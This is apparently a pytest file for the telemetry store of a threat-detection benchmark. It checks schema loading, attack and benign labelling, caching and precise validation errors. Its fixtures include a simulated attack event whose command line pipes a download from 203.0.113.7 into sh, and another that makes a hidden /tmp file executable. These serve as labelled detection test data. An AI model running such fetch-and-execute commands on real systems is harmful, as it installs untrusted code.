"""The telemetry store: validation with precise errors, labels kept out of the engine, caching."""

from __future__ import annotations

import multiprocessing
import re
import shutil
from pathlib import Path

import pytest

from ctirealm.engine import LocalEngine, ReadOnlyViolation
from ctirealm.telemetry.dataset import Dataset, DatasetError
from ctirealm.telemetry.events import TelemetryFormatError
from ctirealm.telemetry.schema import SchemaError, load_schemas
from ctirealm.telemetry.store import build_store
from tests.helpers import ROOT, process_event, write_jsonl

ATTACK = {
    "sim1": {
        "DeviceProcessEvents": [
            process_event(
                482913377104,
                "bash -c 'curl http://203.0.113.7/x | sh' 9f1c-sim",
                AdditionalFields={"k": [1, 2]},
            ),
            process_event(590114783321, "chmod +x /tmp/.x 9f1c-sim", when="2026-03-05T10:00:05+02:00"),
        ]
    }
}
BENIGN = {
    "sim1": {
        "DeviceProcessEvents": [
            process_event(771029384455, "curl -fsSL https://get.docker.com | sh"),
        ]
    }
}


def test_the_twelve_schemas_load() -> None:
    schemas = load_schemas(ROOT / "telemetry" / "schemas")
    assert len(schemas) == 12
    assert schemas["DeviceProcessEvents"].id_column == "ReportId"
    assert schemas["AKSAudit"].type_of("ObjectRef") == "dynamic"


def test_store_loads_events_with_types_and_labels(make_telemetry, tmp_path: Path) -> None:
    store = build_store(Dataset.load(make_telemetry(ATTACK, BENIGN)), cache_dir=tmp_path / "c", rows=0)
    assert store.rows["DeviceProcessEvents"] == 3
    assert store.labels.kind("DeviceProcessEvents", 482913377104) == "attack"
    assert store.labels.kind("DeviceProcessEvents", "771029384455") == "hard_negative"
    assert store.labels.kind("DeviceProcessEvents", 1) == "benign"
    assert store.labels.group("DeviceProcessEvents", 482913377104) == "sim1"
    with LocalEngine.of_store(store) as engine:
        rows = engine.query(
            "DeviceProcessEvents | where ReportId == 590114783321 | project Timestamp, AdditionalFields"
        ).to_dicts()
        # +02:00 converted to UTC
        assert rows[0]["Timestamp"].isoformat() == "2026-03-05T08:00:05+00:00"
        first = engine.query(
            "DeviceProcessEvents | where ReportId == 482913377104 "
            "| extend n = array_length(AdditionalFields.k) | project n"
        ).rows
        assert first == [(2,)]
        # now() is the window's end: everything lies within the last 14 days
        assert engine.query("DeviceProcessEvents | where Timestamp > ago(14d) | count").rows == [(3,)]
        # labels are never a table
        assert sorted(engine.tables()) == sorted(load_schemas(ROOT / "telemetry" / "schemas"))
        with pytest.raises(ReadOnlyViolation):
            engine.query(".drop table DeviceProcessEvents")


def test_store_is_cached_and_rebuilt_only_on_change(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry(ATTACK)
    first = build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    mtime = first.path.stat().st_mtime_ns
    again = build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    assert again.path == first.path and again.path.stat().st_mtime_ns == mtime
    write_jsonl(root / "benign" / "x" / "DeviceProcessEvents.jsonl", [process_event(123456789012, "ls -la")])
    changed = build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    assert changed.path != first.path
    assert changed.rows["DeviceProcessEvents"] == 3


def _build(args: tuple[str, str]) -> str:
    root, cache = args
    return str(build_store(Dataset.load(root), cache_dir=Path(cache), rows=0).path)


def test_concurrent_builders_share_one_store(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry(ATTACK, BENIGN)
    with multiprocessing.get_context("spawn").Pool(3) as pool:
        paths = pool.map(_build, [(str(root), str(tmp_path / "c"))] * 3)
    assert len(set(paths)) == 1
    assert not [p for p in (tmp_path / "c").iterdir() if "staging" in p.name]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 1', "invalid JSON"),
        (
            '{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 1, "Bogus": 2}',
            "column 'Bogus' is not in DeviceProcessEvents",
        ),
        ('{"Timestamp": "yesterday", "ReportId": 1}', "column 'Timestamp' (datetime)"),
        ('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": "abc"}', "column 'ReportId' (long)"),
        ('{"Timestamp": "2026-03-05T10:00:00Z"}', "missing id column 'ReportId'"),
        ('{"Timestamp": "2025-01-01T00:00:00Z", "ReportId": 1}', "outside the dataset window"),
        ("[1, 2]", "must be a JSON object"),
    ],
)
def test_bad_event_lines_name_file_line_and_field(
    make_telemetry, tmp_path: Path, line: str, message: str
) -> None:
    root = make_telemetry(ATTACK)
    bad = root / "attack" / "sim2" / "DeviceProcessEvents.jsonl"
    bad.parent.mkdir(parents=True)
    bad.write_text('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 99}\n' + line + "\n")
    with pytest.raises(TelemetryFormatError) as info:
        build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    assert f"{bad}:2: " in str(info.value)
    assert message in str(info.value)


def test_duplicate_ids_are_reported_with_both_places(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry(ATTACK, {"neg": {"DeviceProcessEvents": [process_event(482913377104, "ls")]}})
    with pytest.raises(TelemetryFormatError, match="ReportId 482913377104 already used at"):
        build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)


def test_unknown_table_file_and_missing_schema_are_clear(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry(ATTACK)
    write_jsonl(root / "attack" / "sim1" / "DeviceEvents.jsonl", [{"x": 1}])
    with pytest.raises(
        TelemetryFormatError, match=re.escape("DeviceEvents.jsonl: file name must be a table name")
    ):
        build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    (root / "schemas" / "AKSAudit.json").write_text('{"table": "AKSAudit"}')
    dataset = Dataset.load(root)
    assert "AKSAudit" not in dataset.schemas
    assert [str(p) for p in dataset.problems] == ["schemas/AKSAudit.json: missing field 'id_column'"]
    with pytest.raises(SchemaError, match=re.escape("AKSAudit.json: missing field 'id_column'")):
        build_store(dataset, cache_dir=tmp_path / "c", rows=0)
    (root / "schemas").rename(root / "gone")
    with pytest.raises(DatasetError, match="schemas: schema directory not found"):
        Dataset.load(root)


# -- lenient builds: a bad file is left out, named, and the rest is built ---------------------

GOOD = {"good": {"DeviceProcessEvents": [process_event(111111111111, "id 5e7a-good")]}}


def _lenient(root: Path, tmp_path: Path, rows: int = 0):
    return build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=rows, strict=False)


def test_lenient_build_leaves_out_a_truncated_file_and_names_its_line(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry({**ATTACK, **GOOD}, BENIGN)
    bad = root / "attack" / "sim1" / "DeviceProcessEvents.jsonl"
    text = bad.read_text()
    bad.write_text(text[: len(text) - 20])  # cut the last line short, no newline
    store = _lenient(root, tmp_path)
    assert [(p.path, p.line, p.kind, p.table, p.group) for p in store.problems] == [
        ("attack/sim1/DeviceProcessEvents.jsonl", 2, "attack", "DeviceProcessEvents", "sim1")
    ]
    assert "invalid JSON" in store.problems[0].message and "truncated line?" in store.problems[0].message
    assert str(store.problems[0]).startswith("attack/sim1/DeviceProcessEvents.jsonl:2: invalid JSON")
    # none of the bad file's events, not even its valid first line; everything else is in
    assert store.labels.simulations() == ["good"]
    assert store.labels.kind("DeviceProcessEvents", 482913377104) == "benign"
    assert store.labels.kind("DeviceProcessEvents", 771029384455) == "hard_negative"
    with LocalEngine.of_store(store) as engine:
        assert engine.query("DeviceProcessEvents | count").rows == [(2,)]
        assert engine.query("DeviceProcessEvents | where ReportId == 482913377104").rows == []
    # the cached store keeps its problems; a strict caller still gets the error
    again = _lenient(root, tmp_path)
    assert again.path == store.path and again.problems == store.problems
    with pytest.raises(TelemetryFormatError, match=r"DeviceProcessEvents.jsonl:2: invalid JSON"):
        build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)


def test_lenient_build_reports_every_bad_file_once(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry(
        {**ATTACK, **GOOD},
        {
            "dup": {
                "DeviceProcessEvents": [
                    process_event(222222222222, "ls"),
                    process_event(482913377104, "ls -la"),
                ]
            }
        },
    )
    write_jsonl(root / "attack" / "sim1" / "DeviceEvents.jsonl", [{"x": 1}])
    write_jsonl(
        root / "attack" / "sim3" / "DeviceFileEvents.jsonl",
        [{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 5, "Bogus": 1}],
    )
    store = _lenient(root, tmp_path)
    found = {p.path: (p.line, p.message) for p in store.problems}
    assert sorted(found) == [
        "attack/sim1/DeviceEvents.jsonl",
        "attack/sim3/DeviceFileEvents.jsonl",
        "benign/dup/DeviceProcessEvents.jsonl",
    ]
    assert found["attack/sim1/DeviceEvents.jsonl"][0] is None
    assert "file name must be a table name" in found["attack/sim1/DeviceEvents.jsonl"][1]
    assert found["attack/sim3/DeviceFileEvents.jsonl"] == (1, "column 'Bogus' is not in DeviceFileEvents")
    # the later file with a clashing id is the one left out; the first keeps its events
    line, message = found["benign/dup/DeviceProcessEvents.jsonl"]
    assert line == 2 and "ReportId 482913377104 already used at" in message
    assert store.labels.kind("DeviceProcessEvents", 482913377104) == "attack"
    assert store.labels.kind("DeviceProcessEvents", 222222222222) == "benign"
    assert store.rows["DeviceProcessEvents"] == 3


def test_a_duplicate_id_inside_one_file_names_both_lines(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry({"s": {"DeviceProcessEvents": [process_event(7, "a"), process_event(7, "b")]}})
    store = _lenient(root, tmp_path)
    assert [str(p) for p in store.problems] == [
        f"attack/s/DeviceProcessEvents.jsonl:2: ReportId 7 already used at "
        f"{root / 'attack' / 's' / 'DeviceProcessEvents.jsonl'}:1"
    ]
    assert store.rows["DeviceProcessEvents"] == 0


def test_lenient_build_without_a_broken_schema_keeps_the_other_tables(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry({**ATTACK, "k8s": {"AKSAudit": [{"TimeGenerated": "2026-03-05T10:00:00Z"}]}})
    (root / "schemas" / "AKSAudit.json").write_text("{not json")
    shutil.copytree(ROOT / "telemetry" / "generator", root / "generator")
    store = _lenient(root, tmp_path, rows=2000)
    assert [(p.path, p.kind) for p in store.problems] == [
        ("schemas/AKSAudit.json", "schema"),
        ("attack/k8s/AKSAudit.jsonl", "attack"),
    ]
    assert "invalid JSON" in store.problems[0].message
    assert store.problems[1].message.startswith("the schema of AKSAudit did not load (schemas/AKSAudit.json:")
    assert "AKSAudit" not in store.rows and "AKSAudit" not in store.meta["schemas"]
    # the generator still fills the other tables
    assert store.rows["DeviceProcessEvents"] > 2 and sum(store.rows.values()) >= 2000 * 0.5
    with LocalEngine.of_store(store) as engine:
        assert "AKSAudit" not in engine.tables()


def test_failed_build_leaves_no_store_behind(make_telemetry, tmp_path: Path) -> None:
    root = make_telemetry({"s": {"DeviceProcessEvents": [{"ReportId": 1}]}})
    with pytest.raises(TelemetryFormatError):
        build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
    assert not list((tmp_path / "c").glob("*.duckdb"))
